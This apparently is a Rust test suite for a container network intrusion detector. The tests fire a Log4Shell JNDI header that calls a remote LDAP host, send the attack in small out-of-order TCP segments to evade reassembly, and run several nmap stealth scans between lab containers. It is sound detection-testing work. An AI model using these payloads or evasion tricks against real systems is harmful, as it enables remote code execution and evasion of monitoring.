//! Attacks between real containers, each of which must be told once, with both names.

use std::{
    io::{Read as _, Write as _},
    net::TcpStream,
    time::Duration,
};

use anyhow::{Result, ensure};
use hydrophone_tests::{Agent, Engine, Event, Options};

/// Starter rule "Log4Shell lookup with a remote protocol".
const LOG4SHELL: u64 = 7_000_002;
const LOG4SHELL_HEADER: &str = "X-Api-Version: ${jndi:ldap://198.18.0.9:1389/a}";

/// A request with an attack in a header, as an argument list.
fn exploit(url: &str) -> [&str; 8] {
    [
        "busybox",
        "wget",
        "-q",
        "-O",
        "/dev/null",
        "--header",
        LOG4SHELL_HEADER,
        url,
    ]
}

/// The alert of rule `sid` from one container to another: there must be just one, and no other alert
/// about its source.
fn only_alert(agent: &Agent, sid: u64, source: &str, destination: &str) -> Result<Event> {
    let what = format!("sid {sid} from {source} to {destination}");
    let alert = agent.wait_for(&what, |event| {
        event.is_between(source, destination) && event.sid() == sid
    })?;
    agent.settle()?;
    let all = agent.alerts_of(&[source]);
    ensure!(
        all.len() == 1,
        "one alert expected, not {}: {all:#?}",
        all.len()
    );
    Ok(alert)
}

fn assert_identity(alert: &Event, end: &str, name: &str, id: &str) {
    assert_eq!(alert.text(&format!("/{end}/kind")), "container", "{alert}");
    assert_eq!(alert.text(&format!("/{end}/name")), name, "{alert}");
    assert_eq!(alert.text(&format!("/{end}/id")), id, "{alert}");
    assert_eq!(
        alert.text(&format!("/{end}/image")),
        Engine::IMAGE,
        "{alert}"
    );
}

#[test]
fn exploit_by_http_is_told_with_both_names() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let attacker = engine.run_idle("attacker", &["--label=team=red"])?;
    let agent = Agent::start(&Options::new(&engine))?;

    attacker.exec(&exploit(&format!("http://{}/hostname", web.ipv4())))?;

    let alert = only_alert(&agent, LOG4SHELL, "attacker", "web")?;
    assert_identity(&alert, "src_container", "attacker", attacker.id());
    assert_identity(&alert, "dst_container", "web", web.id());
    assert!(alert.has_attack("T1190"), "{alert}");
    assert_eq!(alert.text("/src_container/labels/team"), "red", "{alert}");
    assert_eq!(alert.text("/src_ip"), attacker.ipv4());
    assert_eq!(alert.text("/dest_ip"), web.ipv4());
    assert_eq!(alert.number("/dest_port"), 80);
    assert_eq!(alert.text("/proto"), "TCP");
    assert_eq!(alert.text("/direction"), "to_server");
    assert_eq!(alert.text("/hook"), "link_ingress");
    assert_eq!(alert.text("/in_iface"), attacker.link()?);
    assert_eq!(alert.text("/src_process/comm"), "busybox", "{alert}");
    assert!(
        alert.text("/payload_printable").contains("${jndi:ldap://"),
        "{alert}"
    );
    agent.stop()?;
    Ok(())
}

#[test]
fn exploit_over_ipv6_is_told_with_both_names() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let attacker = engine.run_idle("attacker", &[])?;
    let agent = Agent::start(&Options::new(&engine))?;

    attacker.exec(&exploit(&format!("http://[{}]/hostname", web.ipv6())))?;

    let alert = only_alert(&agent, LOG4SHELL, "attacker", "web")?;
    assert_identity(&alert, "src_container", "attacker", attacker.id());
    assert_identity(&alert, "dst_container", "web", web.id());
    assert!(alert.has_attack("T1190"), "{alert}");
    assert_eq!(alert.text("/dest_ip"), web.ipv6());
    agent.stop()?;
    Ok(())
}

#[test]
fn exploit_over_shared_loopback_is_told_with_both_names() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let sidecar = engine.run_idle("sidecar", &["--network=container:web"])?;
    let agent = Agent::start(&Options::new(&engine))?;

    sidecar.exec(&exploit("http://127.0.0.1/hostname"))?;
    let alert = only_alert(&agent, LOG4SHELL, "sidecar", "web")?;
    assert_identity(&alert, "src_container", "sidecar", sidecar.id());
    assert_identity(&alert, "dst_container", "web", web.id());
    assert!(alert.has_attack("T1190"), "{alert}");
    assert_eq!(alert.text("/dest_ip"), "127.0.0.1");
    assert!(alert.text("/hook").starts_with("socket_"), "{alert}");

    sidecar.exec(&exploit("http://[::1]/hostname"))?;
    agent.wait_for("the same over ::1", |event| {
        event.is_between("sidecar", "web") && event.text("/dest_ip") == "::1"
    })?;
    agent.stop()?;
    Ok(())
}

/// A client that speaks TCP by itself: three bytes a segment, last ones first, each twice.
const SPLIT_CLIENT: &str = r#"
import sys
from scapy.all import IP, TCP, AsyncSniffer, conf, send, sr1
server, request = sys.argv[1], sys.argv[2].encode().decode('unicode_escape').encode()
ip, ports = IP(dst=server), dict(sport=40123, dport=80)
answer = sr1(ip / TCP(flags='S', seq=1000, **ports), timeout=10, verbose=0)
at, ack = 1001, answer[TCP].seq + 1
send(ip / TCP(flags='A', seq=at, ack=ack, **ports), verbose=0)
pieces = [(at + i, request[i:i + 3]) for i in range(0, len(request), 3)]
replies = AsyncSniffer(
    lfilter=lambda p: TCP in p and p[TCP].sport == 80 and bytes(p[TCP].payload).startswith(b'HTTP/1.'),
    count=1, timeout=10, started_callback=lambda: send(
        [ip / TCP(flags='PA', seq=seq, ack=ack, **ports) / data for seq, data in pieces[::-1] for _ in (0, 1)],
        verbose=0))
replies.start()
replies.join()
print(len(pieces), 'pieces', bytes(replies.results[0][TCP].payload)[:12].decode())
"#;

#[test]
fn exploit_in_small_segments_out_of_order_is_told_once() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let attacker = engine.run_idle("attacker", &["--cap-add=NET_ADMIN"])?;
    let agent = Agent::start(&Options::new(&engine))?;

    // The kernel knows nothing of that connection and would reset it.
    attacker.shell("iptables -A OUTPUT -p tcp --tcp-flags RST RST -j DROP")?;
    let request =
        format!("GET /hostname HTTP/1.1\\r\\nHost: web\\r\\n{LOG4SHELL_HEADER}\\r\\n\\r\\n");
    let sent = attacker.exec(&["python3", "-c", SPLIT_CLIENT, web.ipv4(), &request])?;
    // The server has put it together, so it was an attack.
    assert!(sent.stdout.ends_with("HTTP/1.1 200"), "{sent:?}");

    let alert = only_alert(&agent, LOG4SHELL, "attacker", "web")?;
    assert_identity(&alert, "src_container", "attacker", attacker.id());
    assert_identity(&alert, "dst_container", "web", web.id());
    assert!(alert.has_attack("T1190"), "{alert}");
    agent.stop()?;
    Ok(())
}

#[test]
fn container_started_after_the_agent_is_covered() -> Result<()> {
    let engine = Engine::start()?;
    let agent = Agent::start(&Options::new(&engine))?;
    let web = engine.run_web("web")?;
    let attacker = engine.run_idle("attacker", &[])?;

    attacker.exec(&exploit(&format!("http://{}/hostname", web.ipv4())))?;

    let alert = only_alert(&agent, LOG4SHELL, "attacker", "web")?;
    assert_identity(&alert, "src_container", "attacker", attacker.id());
    assert_identity(&alert, "dst_container", "web", web.id());
    agent.stop()?;
    Ok(())
}

#[test]
fn container_that_lives_for_one_attack_is_named() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let agent = Agent::start(&Options::new(&engine))?;

    let url = format!("http://{}/hostname", web.ipv4());
    let ghost = engine.run("ghost", &[], &exploit(&url))?;
    let id = ghost.id().to_owned();
    engine.docker(&["wait", "ghost"])?;
    ghost.remove()?;

    let alert = only_alert(&agent, LOG4SHELL, "ghost", "web")?;
    assert_identity(&alert, "src_container", "ghost", &id);
    assert_identity(&alert, "dst_container", "web", web.id());
    agent.stop()?;
    Ok(())
}

#[test]
fn container_removed_before_the_alert_is_named() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let attacker = engine.run_idle("attacker", &[])?;
    let agent = Agent::start(&Options::new(&engine))?;

    // Probes of ports that do not answer are a scan only when they had time to: until then the
    // container has gone. The web server's filter drops them.
    let (id, address) = (attacker.id().to_owned(), web.ipv4().to_owned());
    let drop_probes = [
        "--net", "iptables", "-A", "INPUT", "-p", "tcp", "-j", "DROP",
    ];
    let pid = format!("--target={}", web.pid());
    hydrophone_tests::run("nsenter", &[&[pid.as_str()], &drop_probes[..]].concat())?;
    attacker.exec(&[
        "nmap",
        "-sS",
        "-Pn",
        "-n",
        "--max-retries=0",
        "-T5",
        "-p1-100",
        &address,
    ])?;
    attacker.remove()?;

    let alert = agent.wait_for("port scan", |event| {
        event.is_between("attacker", "web") && event.at("/behavior").is_object()
    })?;
    assert_identity(&alert, "src_container", "attacker", &id);
    agent.stop()?;
    Ok(())
}

#[test]
fn process_of_the_host_as_source_is_told() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let agent = Agent::start(&Options::new(&engine))?;

    let mut stream = TcpStream::connect((web.ipv4(), 80))?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    write!(
        stream,
        "GET /hostname HTTP/1.0\r\n{LOG4SHELL_HEADER}\r\n\r\n"
    )?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    assert!(answer.starts_with("HTTP/1."), "{answer}");

    let alert = agent.wait_for("exploit from the host", |event| {
        event.sid() == LOG4SHELL && event.destination() == "web"
    })?;
    assert_eq!(alert.text("/src_container/kind"), "host", "{alert}");
    assert_identity(&alert, "dst_container", "web", web.id());
    assert_eq!(alert.text("/src_ip"), engine.gateway());
    assert_eq!(
        alert.number("/src_process/pid"),
        u64::from(std::process::id()),
        "{alert}"
    );
    agent.settle()?;
    assert_eq!(agent.alerts_of(&["web"]).len(), 1);
    agent.stop()?;
    Ok(())
}

#[test]
fn port_scans_are_told_by_their_kind() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let agent = Agent::start(&Options::new(&engine))?;
    for (technique, sid) in [("-sS", 1), ("-sT", 1), ("-sF", 2), ("-sN", 3), ("-sX", 4)] {
        let name = format!("scanner{technique}");
        let scanner = engine.run_idle(&name, &[])?;

        scanner.exec(&["nmap", technique, "-Pn", "-n", "-p1-200", web.ipv4()])?;

        let alert = only_alert(&agent, sid, &name, "web")?;
        assert_identity(&alert, "src_container", &name, scanner.id());
        assert_identity(&alert, "dst_container", "web", web.id());
        assert!(alert.has_attack("T1046"), "{alert}");
        assert!(alert.at("/behavior").is_object(), "{alert}");
    }
    agent.stop()?;
    Ok(())
}
